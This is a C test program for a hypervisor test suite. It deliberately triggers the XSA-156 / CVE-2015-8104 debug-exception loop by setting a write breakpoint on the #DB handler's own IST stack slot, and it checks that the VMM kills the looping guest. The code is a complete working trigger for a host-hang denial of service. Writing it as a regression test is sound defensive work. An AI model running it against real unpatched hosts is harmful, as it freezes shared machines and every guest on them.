/* hostile_db_loop: the XSA-156 / CVE-2015-8104 attack. The #DB gate runs
 * on its own IST stack, and a data breakpoint (DR0/DR7, 8-byte writes)
 * watches the slot at the top of that stack where delivery pushes SS: so
 * delivering a #DB writes the slot, which raises the next #DB before the
 * handler's first instruction, on the same stack, forever. On hardware
 * that loop runs inside event delivery, where no interrupt (and in VMX
 * non-root no preemption timer) ever gets in: the host hangs. Proves that
 * the VMM intercepts #DB, so each delivery is a VM exit, and stops a
 * guest that makes no progress in delivery (result=killed
 * why=exception_loop). */
#include "lib.h"

#define IST_SIZE 4096
#define TSS_IST1 0x24 /* SDM 3A 8.7 "Task Management in 64-bit Mode" */
#define GATE_IST 4    /* byte 4 of a 64-bit IDT gate: the IST index */
/* DR7: L0, R/W0 = 01 (data writes), LEN0 = 10 (8 bytes) — SDM 3B 18.2.4
 * "Debug Control Register (DR7)". */
#define DR7_L0_WRITE_8 (1ull << 0 | 1ull << 16 | 2ull << 18)

static uint8_t ist_stack[IST_SIZE] __attribute__((aligned(16)));

int guest_main(struct hv_info *info);
int guest_main(struct hv_info *info)
{
	struct {
		uint16_t limit;
		uint64_t base;
	} __attribute__((packed)) idtr;
	uint64_t top = (uint64_t)ist_stack + IST_SIZE;
	volatile uint64_t *ss_slot = (volatile uint64_t *)(top - 8);

	(void)info;
	guest_exceptions_init();
	__asm__ volatile("sidt %0" : "=m"(idtr));
	*(volatile uint64_t *)(HV_GUEST_TSS + TSS_IST1) = top;
	((volatile uint8_t *)idtr.base)[EXC_DB * 16 + GATE_IST] = 1;
	guest_printf("hostile_db_loop: #DB on IST 1, a write breakpoint on "
		     "its SS slot at 0x%lx; writing it\n",
		     (uint64_t)ss_slot);
	__asm__ volatile("mov %0, %%dr0\n\t"
			 "mov %1, %%dr7" ::"r"((uint64_t)ss_slot),
			 "r"(DR7_L0_WRITE_8)
			 : "memory");
	*ss_slot = 0;
	guest_printf("hostile_db_loop: FAIL: the #DB loop ended (last "
		     "exception %d)\n",
		     guest_last_exception);
	return 1;
}
